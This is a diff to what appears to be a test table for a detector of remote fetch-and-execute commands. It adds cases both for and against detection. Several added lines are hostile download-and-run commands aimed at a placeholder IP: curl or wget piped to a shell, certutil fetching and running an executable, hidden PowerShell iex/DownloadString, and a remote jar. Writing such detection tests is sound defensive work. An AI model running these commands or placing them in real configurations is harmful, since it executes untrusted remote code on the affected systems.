@@ -59,7 +59,25 @@ indicatorTable(commandRemoteFetchExecute, {
         { name: 'main', image: 'alpine', command: ['sh', '-c', `curl -s ${OWN} | sh`] },
       ],
     }),
+    'an archive of Java': script('curl -sO http://203.0.113.7/agent.jar && java -Xmx1g -jar agent.jar --host a'),
     'an address that deno runs': runs('deno', 'run', '-A', 'https://203.0.113.7/mod.ts'),
+    'the shell of Windows': runs(
+      'cmd.exe',
+      '/c',
+      'certutil -urlcache -split -f http://203.0.113.7/a.exe C:\\Temp\\a.exe && C:\\Temp\\a.exe',
+    ),
+    'PowerShell that evaluates a page': runs(
+      'powershell',
+      '-nop',
+      '-w',
+      'hidden',
+      '-c',
+      'iex (iwr http://203.0.113.7/a.ps1)',
+    ),
+    'the older PowerShell without an option': runs(
+      'powershell.exe',
+      'IEX(New-Object Net.WebClient).DownloadString("http://203.0.113.7/a")',
+    ),
     'curl into sh': runs('sh', '-c', 'curl -s http://203.0.113.7/x | sh'),
     'wget into an absolute bash path': runs('/bin/sh', '-c', 'wget -qO- 203.0.113.7|/bin/bash'),
     'a dash before the shell text': runs('/bin/sh', '-c', '--', 'curl http://files.example.com/x|sh'),
@@ -136,6 +154,11 @@ indicatorTable(commandRemoteFetchExecute, {
       'registry.gitlab.com/acme/ops/tools:1',
       'wget -qO /tmp/x https://gitlab.com/acme/ops/-/raw/main/x.sh && sh /tmp/x',
     ),
+    'an archive of Java from the image': script(
+      'curl -s https://example.com/a.json -o a.json; java -jar /app/app.jar a.json',
+    ),
+    'a page that PowerShell reads': runs('pwsh', '-c', '(iwr https://example.com/a.json).Content | ConvertFrom-Json'),
+    'the sum of a file on Windows': runs('cmd', '/c', 'certutil -hashfile C:\\app\\a.dll SHA256 && C:\\app\\run.exe'),
     'what awk reads and puts into a command': runs('awk', 'BEGIN{"date" | getline d; system("echo " d)}'),
     'a download that is kept in memory': runs(
       'python3',
